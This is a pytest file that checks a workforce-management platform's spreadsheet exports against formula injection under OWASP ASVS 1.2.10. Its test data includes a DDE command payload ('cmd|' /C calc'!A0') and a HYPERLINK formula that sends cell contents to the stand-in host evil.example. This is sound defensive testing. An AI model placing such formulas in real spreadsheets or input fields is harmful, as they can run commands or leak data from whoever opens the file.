"""OWASP ASVS 5.0 1.2.10: CSV and formula injection in every spreadsheet the platform writes."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from jmzhgd.core.excel import Sheet, safe_text, write_workbook
from tests import factories

ROOT = Path(__file__).resolve().parents[2]
APP_DIRS = ["jmzhgd", "projects", "enterprises", "workforce", "attendance", "contracts"]


def app_sources():
    for folder in APP_DIRS:
        for path in (ROOT / folder).rglob("*.py"):
            if "migrations" not in path.parts:
                yield path, path.read_text(encoding="utf-8")


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r", "\0"])
def test_every_trigger_character_named_by_the_requirement_is_neutralised(trigger):
    """The list in ASVS 1.2.10: '=', '+', '-', '@', tab and the null character."""
    assert safe_text(f"{trigger}cmd|' /C calc'!A0").startswith("'")


def test_control_characters_never_break_an_export_and_a_leading_nul_is_neutralised():
    """A name carrying a control character (possible through the API) must not turn the export into a
    500 (openpyxl refuses such characters); a leading NUL hides a formula and is neutralised too."""
    buffer = io.BytesIO()
    rows = [["\x00=1+2", "张\x07三", "\x1b@SUM(A1)"]]
    write_workbook([Sheet("花名册", ["a", "b", "c"], rows)], buffer)
    buffer.seek(0)
    cells = load_workbook(buffer).active[2]
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
        ("=1+2", "s", True),
        ("张三", "s", False),
        ("@SUM(A1)", "s", True),
    ]


@pytest.mark.django_db
def test_names_in_the_import_templates_dropdown_lists_are_text_never_formulas(project):
    """The batch-import template is built with openpyxl's normal mode (it needs data validation), so
    it does not go through core.excel: a team or enterprise named like a formula must stay text."""
    from workforce.imports import LIST_SHEET, build_template

    formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    unit = factories.UnitFactory(project=project, enterprise=factories.EnterpriseFactory(name="+江门建设"))
    factories.TeamFactory(unit=unit, name=formula)
    data = build_template(project)

    workbook = load_workbook(io.BytesIO(data))
    values = {c.value for row in workbook[LIST_SHEET].iter_rows() for c in row if c.value}
    assert formula in values and "+江门建设" in values
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert "<f>" not in archive.read(name).decode(), name


def test_no_application_code_writes_csv_or_builds_a_workbook_outside_core_excel():
    """Exports are .xlsx through jmzhgd.core.excel (xlsx_response / write_workbook); the one other
    workbook (the import template) is covered by the test above. No CSV is ever written, so the
    RFC 4180 part of 1.2.10 has nothing to apply to."""
    writers, workbooks = [], []
    for path, source in app_sources():
        if re.search(r"csv\.(writer|DictWriter)\(|text/csv", source):
            writers.append(path)
        if re.search(r"\bWorkbook\(", source):
            workbooks.append(path.relative_to(ROOT).as_posix())
    assert writers == []
    assert sorted(workbooks) == ["jmzhgd/core/excel.py", "workforce/imports/template.py"]


def test_every_export_module_uses_core_excel():
    exports = [p for p, _ in app_sources() if p.name == "exports.py"]
    assert exports
    for path in exports:
        assert "from jmzhgd.core.excel import" in path.read_text(encoding="utf-8"), path


@pytest.mark.django_db
def test_a_team_named_like_a_formula_exports_as_typed_in_a_text_cell(project_client, project):
    """Excel shows "=1+2" (no visible apostrophe) and never evaluates it: the cell is a string cell
    (data_type "s", no formula element in the sheet) with Excel's quote prefix."""
    from django.urls import reverse

    factories.RosterEntryFactory(team__unit__project=project, team__name="=1+2")
    response = project_client.get(reverse("workforce:roster_export", kwargs={"project_id": project.pk}))
    data = b"".join(response.streaming_content)
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
    cells = [
        c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row if c.value == "=1+2"
    ]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
